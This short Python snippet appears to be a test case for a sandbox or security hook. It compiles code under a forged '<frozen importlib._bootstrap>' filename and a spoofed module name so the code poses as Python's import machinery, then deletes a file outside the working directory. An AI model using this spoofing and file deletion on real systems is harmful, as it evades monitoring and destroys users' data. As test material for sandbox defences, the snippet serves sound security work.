# The code claims to be the import machinery.
# damage: deleted
code = compile("import os; os.unlink('../outside/victim.txt')", "<frozen importlib._bootstrap>", "exec")
exec(code, {"__name__": "importlib._bootstrap", "__file__": None})
